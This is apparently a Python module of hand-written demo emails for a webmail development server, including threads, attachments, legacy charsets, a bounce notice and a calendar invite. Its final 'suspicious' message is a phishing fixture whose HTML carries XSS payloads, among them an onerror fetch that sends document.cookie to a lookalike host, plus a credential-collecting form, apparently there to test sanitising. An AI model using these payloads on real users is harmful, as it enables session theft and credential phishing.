"""The demo mailboxes: hand-written messages that show what the webmail can do.

All text here is written for this project. Dates are relative to ``now`` so the demo always
looks recent; everything else is deterministic.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from email.header import Header
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime

from webmail.devserver.demo_assets import logo_png, simple_pdf
from webmail.devserver.dsn import DsnRecipient, build_dsn
from webmail.devserver.store import StoredMessage

__all__ = ["ALICE", "BOB", "CAROL", "Mail", "Person", "mail", "raw_mail"]

SEEN, FLAGGED, ANSWERED, DRAFT = "\\Seen", "\\Flagged", "\\Answered", "\\Draft"
BERLIN = timezone(timedelta(hours=1))
TOKYO = timezone(timedelta(hours=9))


@dataclass(frozen=True)
class Person:
    name: str
    address: str

    def __str__(self) -> str:
        return f"{self.name} <{self.address}>"


ALICE = Person("Alice Martin", "alice@example.test")
BOB = Person("Bob Okafor", "bob@example.test")
CAROL = Person("Carol Nguyen", "carol@example.test")
DANA = Person("Dana Whitfield", "dana@partner.example.org")
TEAM = Person("Webmail team", "team@example.test")


@dataclass
class Mail:
    """Shared settings for building one message."""

    sender: Person
    to: list[Person]
    subject: str
    date: datetime
    msgid: str
    cc: tuple[Person, ...] = ()
    in_reply_to: str | None = None
    references: tuple[str, ...] = ()


def _headers(msg: EmailMessage, m: Mail, extra: dict[str, str] | None = None) -> None:
    msg["From"] = str(m.sender)
    msg["To"] = ", ".join(str(p) for p in m.to)
    if m.cc:
        msg["Cc"] = ", ".join(str(p) for p in m.cc)
    msg["Subject"] = m.subject
    msg["Date"] = format_datetime(m.date)
    msg["Message-ID"] = f"<{m.msgid}>"
    if m.in_reply_to:
        msg["In-Reply-To"] = f"<{m.in_reply_to}>"
    if m.references:
        msg["References"] = " ".join(f"<{r}>" for r in m.references)
    for name, value in (extra or {}).items():
        msg[name] = value


def mail(m: Mail, text: str, *, html: str | None = None,
         extra: dict[str, str] | None = None) -> EmailMessage:
    """A text (and optionally HTML) message; callers may add parts before ``as_bytes()``."""
    msg = EmailMessage(policy=SMTP)
    _headers(msg, m, extra)
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    return msg


def raw_mail(headers: list[tuple[str, str]], body: bytes) -> bytes:
    """A message written byte for byte (legacy charsets stay exactly as given)."""
    head = "".join(f"{name}: {value}\r\n" for name, value in headers)
    return head.encode("ascii") + b"\r\n" + body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def stored(msg: EmailMessage | bytes, when: datetime, folder: str = "INBOX",
           flags: tuple[str, ...] = (SEEN,)) -> StoredMessage:
    data = msg if isinstance(msg, bytes) else msg.as_bytes()
    return StoredMessage(data=data, flags=flags, when=when, folder=folder)


# --- the showcase messages -----------------------------------------------------------------

NEWSLETTER_TEXT = """\
HARBOUR CYCLING CLUB - spring rides

Hello riders,

The evenings are getting longer, so the Tuesday social ride moves back to 18:30.
Below is the schedule for the next three weekends. Routes are on the website.

  Sat  Coast road loop        62 km   steady
  Sun  Lighthouse and back    35 km   easy, cafe stop
  Sat  Three hills challenge  94 km   hard

Volunteers wanted: we need two more ride leaders for the easy group.
Reply to this mail or sign up at https://harbourcycling.example.org/volunteer

See you on the road,
Mina (ride secretary)

You receive this because you joined the club mailing list.
Unsubscribe: https://harbourcycling.example.org/unsubscribe?u=demo
"""

NEWSLETTER_HTML = """\
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Spring rides</title>
<style>
  body { margin: 0; background: #eef3f6; font-family: Georgia, serif; }
  .ride-table td { padding: 6px 10px; border-bottom: 1px solid #d5dee4; }
  .level-hard { color: #b3261e; font-weight: bold; }
</style></head>
<body>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"
       style="background:#eef3f6;padding:24px 0">
 <tr><td align="center">
  <table role="presentation" width="600" cellpadding="0" cellspacing="0"
         style="background:#ffffff;border-radius:6px;border:1px solid #c9d6de">
   <tr>
    <td style="background:#16607a;padding:16px 24px;color:#ffffff">
     <img src="cid:logo@harbourcycling.example.org" width="48" height="48" alt="HCC logo"
          style="vertical-align:middle;border:0">
     <span style="font-size:22px;margin-left:12px;vertical-align:middle">Harbour Cycling Club</span>
    </td>
   </tr>
   <tr><td style="padding:0">
     <img src="https://harbourcycling.example.org/img/spring-coast-road.jpg" width="600"
          height="220" alt="Riders on the coast road at sunset" style="display:block;border:0">
   </td></tr>
   <tr><td style="padding:20px 24px;font-size:15px;line-height:1.5;color:#1f2d33">
     <h1 style="font-size:20px;margin:0 0 12px">Spring rides are back</h1>
     <p>Hello riders,</p>
     <p>The evenings are getting longer, so the <strong>Tuesday social ride</strong> moves
        back to <strong>18:30</strong>. Here is the plan for the next three weekends:</p>
     <table class="ride-table" cellpadding="0" cellspacing="0" width="100%"
            style="border-collapse:collapse;font-size:14px;margin:12px 0">
      <tr style="background:#16607a;color:#fff">
       <th align="left" style="padding:6px 10px">Day</th>
       <th align="left" style="padding:6px 10px">Route</th>
       <th align="right" style="padding:6px 10px">Distance</th>
       <th align="left" style="padding:6px 10px">Level</th>
      </tr>
      <tr><td>Sat</td><td>Coast road loop</td><td align="right">62 km</td><td>steady</td></tr>
      <tr style="background:#f4f8fa"><td>Sun</td><td>Lighthouse and back</td>
          <td align="right">35 km</td><td>easy, caf&eacute; stop</td></tr>
      <tr><td>Sat</td><td>Three hills challenge</td><td align="right">94 km</td>
          <td class="level-hard">hard</td></tr>
     </table>
     <p style="background:#fff6d8;border-left:4px solid #e0a800;padding:8px 12px">
        <strong>Volunteers wanted:</strong> we need two more ride leaders for the easy group.
        <a href="https://harbourcycling.example.org/volunteer" style="color:#16607a">Sign up
        here</a>.</p>
     <p>See you on the road,<br>Mina (ride secretary)</p>
   </td></tr>
   <tr><td style="padding:12px 24px;font-size:12px;color:#6b7c85;border-top:1px solid #e1e8ec">
     You receive this because you joined the club mailing list.
     <a href="https://harbourcycling.example.org/unsubscribe?u=demo" style="color:#6b7c85">
     Unsubscribe</a>
     <img src="https://track.harbourcycling.example.org/open/7f3a9c.gif" width="1" height="1"
          alt="" style="display:block">
   </td></tr>
  </table>
 </td></tr>
</table>
</body></html>
"""


def newsletter(when: datetime) -> StoredMessage:
    sender = Person("Harbour Cycling Club", "news@harbourcycling.example.org")
    m = Mail(sender, [ALICE], "Spring rides are back - schedule inside", when,
             "spring-2024.news@harbourcycling.example.org")
    msg = mail(m, NEWSLETTER_TEXT, html=NEWSLETTER_HTML, extra={
        "List-Id": "Club news <news.harbourcycling.example.org>",
        "List-Unsubscribe": "<https://harbourcycling.example.org/unsubscribe?u=demo>",
    })
    html_part = next(part for part in msg.iter_parts() if part.get_content_type() == "text/html")
    html_part.add_related(logo_png(), "image", "png", cid="<logo@harbourcycling.example.org>",
                          filename="hcc-logo.png")
    return stored(msg, when, flags=())


BUDGET_CSV = """\
category,q2_actual_eur,q3_plan_eur,note
Hosting,1840,1900,two more backup volumes
Domains and certificates,120,120,
Test devices,0,650,one tablet and one small phone
Conference travel,2300,1200,only one event this quarter
Team offsite,0,900,"lunch, room, train tickets"
Total,4260,4770,
"""


def budget(when: datetime) -> StoredMessage:
    m = Mail(CAROL, [ALICE], "Q3 budget draft (PDF + spreadsheet)", when,
             "q3-budget.carol@example.test", cc=(BOB,))
    msg = mail(m, (
        "Hi Alice,\n\nattached is the draft budget for Q3, once as a PDF for reading and once\n"
        "as CSV if you want to play with the numbers. The big change is the test devices;\n"
        "travel goes down because we only go to one conference.\n\n"
        "Could you look at it before Thursday? Bob has seen the hosting part already.\n\n"
        "Thanks,\nCarol\n"
    ))
    pdf = simple_pdf("Q3 budget draft", [
        "Prepared by Carol Nguyen for the webmail team.",
        "",
        "Hosting ................... 1900 EUR",
        "Domains and certificates ..  120 EUR",
        "Test devices ..............  650 EUR",
        "Conference travel ......... 1200 EUR",
        "Team offsite ..............  900 EUR",
        "",
        "Total ..................... 4770 EUR",
    ])
    msg.add_attachment(pdf, maintype="application", subtype="pdf",
                       filename="q3-budget-draft.pdf")
    msg.add_attachment(BUDGET_CSV, subtype="csv", filename="q3-budget.csv")
    return stored(msg, when, flags=(SEEN, FLAGGED))


def offsite_thread(day: datetime) -> dict[str, list[StoredMessage]]:
    """Four messages between Alice and Bob; each side keeps its own copies (INBOX/Sent)."""
    ids = [f"offsite-{n}.{who}@example.test" for n, who in
           enumerate(["bob", "alice", "bob", "alice"], start=1)]
    texts = [
        (BOB, ALICE, "Moving the team offsite to Thursday?",
         "Hi Alice,\n\nthe room at the boathouse is booked on Wednesday after all. They offered\n"
         "Thursday instead, same price. Would that work for you and Carol?\n\nBob\n"),
        (ALICE, BOB, "Re: Moving the team offsite to Thursday?",
         "Thursday works for me. Carol is travelling back that morning, so could we\n"
         "start at 11 instead of 10?\n\nAlice\n"),
        (BOB, ALICE, "Re: Moving the team offsite to Thursday?",
         "11 is fine, I changed the booking. Lunch is included now, so no need to bring\n"
         "anything. I will send the agenda on Monday.\n\nBob\n"),
        (ALICE, BOB, "Re: Moving the team offsite to Thursday?",
         "Perfect, thank you! I put it in the team calendar.\n\nAlice\n"),
    ]
    out: dict[str, list[StoredMessage]] = {ALICE.address: [], BOB.address: []}
    for n, (sender, rcpt, subject, text) in enumerate(texts):
        when = day + timedelta(minutes=35 * n)
        quoted = ""
        if n:
            prev = texts[n - 1]
            sent_at = format_datetime(when - timedelta(minutes=35))
            quoted = f"\nOn {sent_at}, {prev[0].name} wrote:\n"
            quoted += "".join(f"> {line}\n" for line in prev[3].splitlines())
        m = Mail(sender, [rcpt], subject, when, ids[n],
                 in_reply_to=ids[n - 1] if n else None, references=tuple(ids[:n]))
        data = mail(m, text + quoted).as_bytes()
        last = n == len(texts) - 1  # the last one is still unread; the others were answered
        out[rcpt.address].append(stored(data, when, "INBOX", () if last else (SEEN, ANSWERED)))
        out[sender.address].append(stored(data, when, "Sent"))
    return out


def release_thread(day: datetime) -> list[StoredMessage]:
    """A four-message team-list discussion, all in Alice's INBOX (threading in one folder)."""
    ids = [f"release-04-{n}@example.test" for n in range(1, 5)]
    posts = [
        (CAROL, "Release checklist for 0.4",
         "Hi all,\n\nhere is the checklist for Friday's 0.4 release:\n\n"
         " 1. freeze main on Wednesday evening\n 2. run the full browser suite twice\n"
         " 3. update the screenshots in the docs\n 4. write the release notes\n\n"
         "Please add anything I forgot.\nCarol\n"),
        (BOB, "Re: Release checklist for 0.4",
         "Add: check the migration on a copy of last week's production database.\n"
         "It took four minutes last time and nobody expected it.\n\nBob\n"),
        (DANA, "Re: Release checklist for 0.4",
         "From the partner side: please mention the new bounce display in the notes,\n"
         "our support team has been asking for it.\n\nDana\n"),
        (CAROL, "Re: Release checklist for 0.4",
         "Thanks both, both points are on the list now. Freeze is tomorrow 18:00.\n\nCarol\n"),
    ]
    out = []
    for n, (sender, subject, text) in enumerate(posts):
        when = day + timedelta(hours=2 * n, minutes=7 * n)
        m = Mail(sender, [TEAM], subject, when, ids[n], cc=(ALICE,) if n == 0 else (),
                 in_reply_to=ids[n - 1] if n else None, references=tuple(ids[:n]))
        msg = mail(m, text, extra={"List-Id": "Webmail team <team.example.test>"})
        out.append(stored(msg, when, flags=() if n == 3 else (SEEN,)))
    return out


def latin1_mail(when: datetime) -> StoredMessage:
    subject = Header("Grüße aus München: Übergabe der Schlüssel", "iso-8859-1").encode()
    sender = Header("Jürgen Weiß", "iso-8859-1").encode()
    body = (
        "Hallo Alice,\n\n"
        "vielen Dank für die schöne Woche in Hamburg! Die Schlüssel für das Büro gebe ich\n"
        "am Donnerstag bei Frau Schäfer ab. Die Rechnung über 48,50 EUR kommt später,\n"
        "sobald ich sie vom Hausmeister bekomme.\n\n"
        "Viele Grüße aus München\nJürgen\n"
    )
    headers = [
        ("From", f"{sender} <juergen@beispiel.example.de>"),
        ("To", str(ALICE)),
        ("Subject", subject),
        ("Date", format_datetime(when.astimezone(BERLIN))),
        ("Message-ID", "<schluessel-4711@beispiel.example.de>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=ISO-8859-1"),
        ("Content-Transfer-Encoding", "8bit"),
    ]
    return stored(raw_mail(headers, body.encode("iso-8859-1")), when, flags=())


def japanese_mails(when: datetime) -> list[StoredMessage]:
    jis_text = (
        "アリスさん\n\n"
        "先日の打ち合わせ、ありがとうございました。\n"
        "議事録を作成しましたので、来週の月曜日までにご確認をお願いします。\n\n"
        "田中\n"
    )
    jis_headers = [
        ("From", Header("田中 健", "iso-2022-jp").encode() + " <tanaka@example.jp>"),
        ("To", str(ALICE)),
        ("Subject", Header("打ち合わせの議事録", "iso-2022-jp").encode()),
        ("Date", format_datetime(when.astimezone(TOKYO))),
        ("Message-ID", "<minutes-0612@example.jp>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=ISO-2022-JP"),
        ("Content-Transfer-Encoding", "7bit"),
    ]
    sjis_text = (
        "Alice様\n\nいつもお世話になっております。\n"
        "ご注文の商品(ノートパソコン用スタンド)を本日発送いたしました。\n"
        "お届けは二日後の予定です。\n\n山本商店 お客様係\n"
    )
    sjis_subject = "=?Shift_JIS?B?" + base64.b64encode(
        "発送のお知らせ".encode("shift_jis")).decode("ascii") + "?="
    sjis_headers = [
        ("From", "=?Shift_JIS?B?" + base64.b64encode("山本商店".encode("shift_jis")).decode()
         + "?= <shop@yamamoto.example.jp>"),
        ("To", str(ALICE)),
        ("Subject", sjis_subject),
        ("Date", format_datetime((when + timedelta(hours=5)).astimezone(TOKYO))),
        ("Message-ID", "<ship-88213@yamamoto.example.jp>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=Shift_JIS"),
        ("Content-Transfer-Encoding", "8bit"),
    ]
    return [
        stored(raw_mail(jis_headers, jis_text.encode("iso-2022-jp")), when),
        stored(raw_mail(sjis_headers, sjis_text.encode("shift_jis")), when + timedelta(hours=5),
               flags=()),
    ]


def bounced_invitation(when: datetime) -> list[StoredMessage]:
    """Something Alice sent to a dead address, and the DSN that came back for it."""
    olivia = Person("Olivia Park", "olivia@bounce.test")
    m = Mail(ALICE, [olivia], "Lunch on Friday?", when, "lunch-friday.alice@example.test")
    sent = mail(m, "Hi Olivia,\n\nare you free for lunch on Friday? The new place by the station\n"
                   "has a terrace now.\n\nAlice\n").as_bytes()
    arrival = when + timedelta(seconds=2)
    dsn = build_dsn(
        recipients=[DsnRecipient(
            olivia.address, "failed", "5.1.1",
            diagnostic="550 5.1.1 <olivia@bounce.test>: Recipient address rejected: "
                       "User unknown in virtual mailbox table",
            remote_mta="mx.bounce.test", original_recipient="rfc822;olivia@bounce.test",
        )],
        original=sent, to=ALICE.address, reporting_mta="devmail.example.test",
        arrival=arrival, date=when + timedelta(seconds=9), envid="demo-outbox-0017",
    )
    return [stored(sent, when, "Sent"),
            stored(b"Return-Path: <>\r\n" + dsn, when + timedelta(seconds=9), flags=())]


def review_notes(when: datetime) -> StoredMessage:
    m = Mail(BOB, [ALICE], "Re: Notes from the design review", when,
             "design-review-3.bob@example.test", in_reply_to="design-review-2.alice@example.test",
             references=("design-review-1.carol@example.test",
                         "design-review-2.alice@example.test"))
    text = """\
Hi Alice,

comments inline. The full notes are in the wiki:
https://wiki.example.test/webmail/design-review-2024-06
and the mock-ups are at https://files.example.test/s/mockups-v3 (ask me for access).

Alice Martin wrote:
> I think the folder list should collapse nested folders by default.
> Carol Nguyen wrote:
>> Only if the unread count of the children is shown on the parent,
>> otherwise people miss new mail in Projects/Webmail.

Agreed with Carol. Let us show the sum on the parent and a small dot.

> Also: should "Archive" be one click from the message view?

Yes, with the keyboard shortcut "e" like the other clients. Questions to
mailto:design@example.test please, so everybody sees them.

--
Bob Okafor
Webmail team, example.test
"""
    return stored(mail(m, text), when)


def calendar_invite(when: datetime) -> StoredMessage:
    start = (when + timedelta(days=2)).replace(hour=13, minute=0, second=0, microsecond=0)
    stamp = "%Y%m%dT%H%M%SZ"
    ics = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//example.test//demo//EN\r\nMETHOD:REQUEST\r\n"
        "BEGIN:VEVENT\r\nUID:retro-0042@example.test\r\n"
        f"DTSTAMP:{when.astimezone(UTC).strftime(stamp)}\r\n"
        f"DTSTART:{start.astimezone(UTC).strftime(stamp)}\r\n"
        f"DTEND:{(start + timedelta(hours=1)).astimezone(UTC).strftime(stamp)}\r\n"
        "SUMMARY:Sprint retrospective\r\nLOCATION:Room Kestrel\r\n"
        f"ORGANIZER;CN={CAROL.name}:mailto:{CAROL.address}\r\n"
        f"ATTENDEE;CN={ALICE.name};RSVP=TRUE:mailto:{ALICE.address}\r\n"
        "END:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    m = Mail(CAROL, [ALICE, BOB], "Invitation: Sprint retrospective", when,
             "retro-0042.invite@example.test")
    msg = mail(m, f"Carol invites you to the sprint retrospective on "
                  f"{start:%A %d %B} at 13:00 UTC in room Kestrel.\n")
    msg.add_attachment(ics.encode("utf-8"), maintype="text", subtype="calendar",
                       filename="invite.ics", params={"method": "REQUEST"})
    return stored(msg, when, flags=())


def forwarded(when: datetime) -> StoredMessage:
    inner_m = Mail(Person("Facilities", "facilities@example.test"), [TEAM],
                   "Office move schedule", when - timedelta(days=3), "move-plan@example.test")
    inner = mail(inner_m, "The second floor moves on the 21st. Please pack your desk by the\n"
                          "evening before; crates are in the kitchen.\n")
    m = Mail(CAROL, [ALICE], "Fwd: Office move schedule", when, "fwd-move.carol@example.test")
    msg = mail(m, "FYI, in case you did not get it - you are on the list for the 21st.\n\nCarol\n")
    msg.add_attachment(inner)
    return stored(msg, when)


def emoji_thanks(when: datetime) -> StoredMessage:
    m = Mail(DANA, [ALICE, BOB, CAROL], "🎉 Thanks for the launch help!", when,
             "thanks-launch@partner.example.org")
    html = ("<p>Hi all,</p><p>the launch went <b>really</b> well 🚀 - thirty new teams on the "
            "first day. Thank you for staying late on Tuesday!</p><p>Dana ☕</p>")
    msg = mail(m, "Hi all,\n\nthe launch went really well - thirty new teams on the first day.\n"
                  "Thank you for staying late on Tuesday!\n\nDana\n", html=html)
    return stored(msg, when, flags=(SEEN, FLAGGED))


def suspicious(when: datetime) -> StoredMessage:
    sender = Person("Mailbox Support", "support@examp1e-mail.example.net")
    m = Mail(sender, [ALICE], "Your mailbox is full - verify your account now", when,
             "verify-9912@examp1e-mail.example.net")
    html = """\
<html><head><script>document.location='https://examp1e-mail.example.net/steal'</script>
<style>body { background: url('https://examp1e-mail.example.net/bg.png') }</style></head>
<body onload="alert('hi')">
<p>Dear user, your mailbox has exceeded its quota.</p>
<p><a href="javascript:alert(document.cookie)">Click here to verify</a> or
<a href="https://examp1e-mail.example.net/login">log in here</a>.</p>
<img src="x" onerror="fetch('https://examp1e-mail.example.net/?c='+document.cookie)">
<form action="https://examp1e-mail.example.net/collect" method="post">
 Password: <input type="password" name="p"><button>Verify</button></form>
<iframe src="https://examp1e-mail.example.net/frame"></iframe>
</body></html>
"""
    msg = mail(m, "Your mailbox is full. Verify your account now.", html=html)
    return stored(msg, when, "Junk", flags=())
